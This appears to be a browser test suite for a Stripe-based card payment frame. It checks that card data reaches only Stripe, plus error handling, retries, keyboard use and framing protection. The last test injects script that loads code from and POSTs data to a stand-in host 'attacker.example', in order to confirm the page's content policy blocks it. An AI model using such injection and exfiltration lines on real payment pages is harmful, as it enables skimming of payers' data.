/** @slow It drives Chromium. */
import { afterAll, afterEach, beforeAll, expect, it } from '@jest/globals'
import { receiver } from '@payments/testing/peers/receiver'
import {
  becomes,
  type CardPages,
  cardPage,
  findFrame,
  type Opened,
  payButton,
  ready,
  startCardPages,
} from './card-pages.ts'
import { serveStripe } from './stripe-js.ts'

let pages: CardPages
beforeAll(async () => {
  pages = await startCardPages()
})
afterAll(() => pages.stop())
afterEach(() => pages.reset())

const type = ({ fields }: Opened, number: string) => fields.getByLabel('Card number').fill(number)

it('submits the PaymentMethod of Stripe to the pay page once, and no card data to us', async () => {
  const before = pages.posts().length
  const opened = await ready(await pages.open())
  await type(opened, '4242424242424242')
  expect(await payButton(opened).textContent()).toBe('Pay €54.97')
  await payButton(opened).dblclick()
  expect(await pages.submitted(before + 1)).toEqual({
    nonce: 'the-nonce',
    payment_method: 'CREDIT_CARD',
    cc_token: 'pm_card_visa',
  })
  const { stripe } = opened
  expect(stripe.created.map((body) => [body.get('key'), body.get('card[number]')])).toEqual([
    [cardPage.publishableKey, '4242424242424242'],
  ])
  expect(pages.posts()).toHaveLength(before + 1)
  const ours = [...pages.payServer.received, ...pages.cardServer.received]
  expect(
    ours.filter((one) => JSON.stringify([one.path, one.headers, one.body.toString()]).includes('4242424242424242')),
  ).toEqual([])
  expect([...stripe.others].sort()).toEqual(
    [pages.payServer.url, pages.cardServer.url].map((url) => new URL(url).origin).sort(),
  )
  expect(pages.complaints).toEqual([])
})

it('requests of Stripe the fields of a card, without wallets, for the amount and language of the page', async () => {
  const { page } = await ready(await pages.open({ url: pages.url('de-AT'), colorScheme: 'dark' }))
  expect(await findFrame(page).evaluate('calls')).toEqual([
    ['Stripe', cardPage.publishableKey, { locale: 'de' }],
    [
      'elements',
      expect.objectContaining({
        mode: 'payment',
        amount: 5497,
        currency: 'eur',
        captureMethod: 'manual',
        paymentMethodCreation: 'manual',
        paymentMethodTypes: ['card'],
        locale: 'de',
        appearance: { theme: 'night', variables: expect.objectContaining({ colorBackground: '#171b22' }) },
      }),
    ],
    [
      'create',
      'payment',
      expect.objectContaining({ wallets: { applePay: 'never', googlePay: 'never', link: 'never' } }),
    ],
  ])
  await page.emulateMedia({ colorScheme: 'light' })
  await becomes(findFrame(page), `calls.some(([name]) => name === 'update')`)
  expect(await findFrame(page).evaluate('calls.at(-1)[1].appearance.theme')).toBe('stripe')
})

it('is paid with the keyboard only', async () => {
  const before = pages.posts().length
  const opened = await ready(await pages.open())
  await opened.fields.getByLabel('Card number').focus()
  await opened.page.keyboard.type('4242424242424242')
  for (let tabs = 0; tabs < 3; tabs += 1) await opened.page.keyboard.press('Tab')
  expect(await findFrame(opened.page).evaluate('document.activeElement.id')).toBe('pay')
  expect(await findFrame(opened.page).evaluate('getComputedStyle(document.activeElement).outlineStyle')).toBe('solid')
  await opened.page.keyboard.press('Enter')
  expect(await pages.submitted(before + 1)).toMatchObject({ cc_token: 'pm_card_visa' })
})

it.each([
  ['an incomplete number', '', 'Your card number is incomplete.'],
  ['a card that Stripe rejects', '4000000000000069', 'Your card has expired.'],
  ['an error that says nothing to a payer', '1', 'The card details could not be checked. You have not been charged.'],
])('announces %s, posts nothing, and lets the payer try again', async (_, number, message) => {
  const before = pages.posts().length
  const opened = await ready(await pages.open())
  await type(opened, number)
  await payButton(opened).click()
  await opened.card.getByRole('alert').filter({ hasText: message }).waitFor()
  expect(await payButton(opened).textContent()).toBe('Pay €54.97')
  await type(opened, '4242424242424242')
  await opened.card.getByText(message).waitFor({ state: 'detached' })
  await payButton(opened).click()
  expect(await pages.submitted(before + 1)).toMatchObject({ cc_token: 'pm_card_visa' })
  expect(pages.posts()).toHaveLength(before + 1)
})

it('disables the button while Stripe works', async () => {
  const before = pages.posts().length
  const opened = await ready(await pages.open({ fault: 'slow' }))
  await type(opened, '4242424242424242')
  await payButton(opened).click()
  await opened.card.getByText('Please wait…').waitFor()
  expect(await payButton(opened).isDisabled()).toBe(true)
  expect(pages.posts()).toHaveLength(before)
  opened.stripe.release()
  expect(await pages.submitted(before + 1)).toMatchObject({ cc_token: 'pm_card_visa' })
})

it.each([
  ['Stripe.js is blocked', 'blocked'],
  ['the fields cannot be loaded', 'no_fields'],
] as const)('says that %s, and loads again on request', async (_, fault) => {
  const opened = await pages.open({ fault })
  await opened.card.getByRole('heading', { name: 'The card fields could not be loaded' }).waitFor()
  opened.stripe.fault = 'none'
  await opened.card.getByRole('button', { name: 'Try again' }).click()
  expect(await payButton(await ready(opened)).textContent()).toBe('Pay €54.97')
})

it('says after 20 s that a silent Stripe did not load, and shows the fields if they come later', async () => {
  const opened = await pages.open({ fault: 'silent', hasClock: true })
  await opened.card.getByText('The card fields are loading…').waitFor()
  await opened.page.clock.fastForward(10_000)
  expect(await opened.card.locator('#failed').isHidden()).toBe(true)
  await opened.page.clock.fastForward(10_000)
  await opened.card.getByRole('heading', { name: 'The card fields could not be loaded' }).waitFor()
  opened.stripe.release()
  await ready(opened)
  expect(await opened.card.locator('#failed').isHidden()).toBe(true)
})

it('says after 20 s that a card page that does not load is not available, and offers to try again', async () => {
  const url = new URL('/unreachable', pages.url()).href
  const opened = await pages.open({ url, status: 503, hasClock: true })
  const failed = opened.page.getByRole('alert').filter({ hasText: 'Card entry is not available at the moment.' })
  await opened.page.clock.fastForward(10_000)
  expect(await opened.page.locator('#card-failed').isHidden()).toBe(true)
  await opened.page.clock.fastForward(10_000)
  await failed.waitFor()
  expect(await opened.page.locator('#card-page').boundingBox()).toMatchObject({ height: 0 })
  const isLoad = ({ method }: { readonly method: string }) => method === 'GET'
  const loads = pages.payServer.received.filter(isLoad).length
  await failed.getByRole('link', { name: 'Try again' }).click()
  await pages.payServer.waitFor(isLoad, { count: loads + 1 })
  expect(await opened.page.locator('#card-failed').isHidden()).toBe(true)
})

it('hides the message when the card page loads after all', async () => {
  const opened = await pages.open({ hasClock: true })
  await ready(opened)
  await opened.page.evaluate(`document.getElementById('card-failed').hidden = false`)
  await findFrame(opened.page).evaluate(`document.getElementById('problem').textContent = 'A longer page'`)
  await opened.page.locator('#card-failed').waitFor({ state: 'hidden' })
  await opened.page.clock.fastForward(30_000)
  expect(await opened.page.locator('#card-failed').isHidden()).toBe(true)
})

it('lets the payer try again when Stripe has not created a PaymentMethod after a minute', async () => {
  const before = pages.posts().length
  const opened = await ready(await pages.open({ fault: 'slow', hasClock: true }))
  await type(opened, '4242424242424242')
  await payButton(opened).click()
  await opened.card.getByText('Please wait…').waitFor()
  await opened.page.clock.fastForward(60_000)
  await opened.card.getByRole('alert').filter({ hasText: 'could not be checked' }).waitFor()
  opened.stripe.fault = 'none'
  await payButton(opened).click()
  expect(await pages.submitted(before + 1)).toMatchObject({ cc_token: 'pm_card_visa' })
  opened.stripe.release()
  expect(pages.posts()).toHaveLength(before + 1)
})

it('outside of a frame it loads nothing of Stripe, and says that nothing can be paid there', async () => {
  pages.show(cardPage)
  const context = await pages.browser.newContext()
  const stripe = await serveStripe(context)
  const page = await context.newPage()
  await page.goto(pages.url())
  await page.getByRole('alert').getByRole('heading', { name: 'Nothing can be paid here' }).waitFor()
  expect(await page.getByRole('button').count()).toBe(0)
  expect(await page.evaluate('typeof Stripe')).toBe('undefined')
  expect(stripe.created).toEqual([])
  const again = await ready(await pages.open())
  expect(await payButton(again).textContent()).toBe('Pay €54.97')
})

it('is not shown in a frame of another origin', async () => {
  pages.show(cardPage)
  const other = await receiver()
  other.respondWith(() => ({
    status: 200,
    headers: { 'content-type': 'text/html' },
    body: `<!doctype html><iframe src="${pages.url()}"></iframe>`,
  }))
  const context = await pages.browser.newContext()
  const page = await context.newPage()
  const complaint = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'))
  await page.goto(other.url)
  expect((await complaint).text()).toContain('violates')
  await other.close()
})

it('says that nothing can be paid for a ticket that is no longer valid', async () => {
  const url = pages.url('fr')
  const opened = await pages.open({ url })
  pages.show(null)
  await opened.page.reload()
  await opened.card.getByRole('heading', { name: 'Aucun paiement n’est possible ici' }).waitFor()
  expect(await opened.card.locator('#pay').count()).toBe(0)
})

it('runs no script of another origin, and sends nothing to one', async () => {
  const { page } = await ready(await pages.open())
  const requests: string[] = []
  await page.route('https://attacker.example/**', (route) => {
    requests.push(route.request().url())
    return route.abort()
  })
  const outcome = await findFrame(page).evaluate(`(async () => {
    document.body.append(
      Object.assign(document.createElement('script'), { textContent: 'window.foreign = true' }),
      Object.assign(document.createElement('script'), { src: 'https://attacker.example/x.js' }))
    const sent = await fetch('https://attacker.example/', { method: 'POST', body: 'x' }).then(() => true, () => false)
    const form = Object.assign(document.createElement('form'), { action: 'https://attacker.example/', target: '_self' })
    document.body.append(form)
    form.submit()
    return [window.foreign, sent]
  })()`)
  expect(outcome).toEqual([undefined, false])
  expect(requests).toEqual([])
})
